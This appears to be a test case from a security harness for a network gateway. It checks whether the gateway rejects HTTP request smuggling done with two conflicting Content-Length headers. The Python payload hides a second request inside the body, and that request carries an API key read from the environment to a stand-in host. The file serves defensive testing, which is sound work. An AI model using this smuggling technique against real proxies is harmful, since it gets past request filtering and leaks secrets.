# /// attack
# guarantee = "network"
# summary = "Smuggles a request with a secret to its host, and reads the answer to another."
# reference = "RFC 9112, 6.3"
# success = "the server gets the hidden request"
# stage = ["internet", "secret"]
# observe = ["told"]
# needs = ["small-internet"]
# policy = { network = { allow = ["*.example.org:80", "*.example.org:443", "*.example.org:8443", "api.example.com:443", "evil.example.net:443"] } }
# refusal = { default = "proxy Content-Length must be one number" }
# ///

import os

from kit import by_gateway, judge, target

inner = f"GET /{target('MARKER')} HTTP/1.1\r\nHost: x\r\nX-Api-Key: {os.environ['API_KEY']}"
lengths = ("Content-Length: 0", f"Content-Length: {len(inner) + 4}")
judge(by_gateway("api.example.org", "/first", *lengths, "\r\n" + inner, method="POST", connection="keep-alive"))
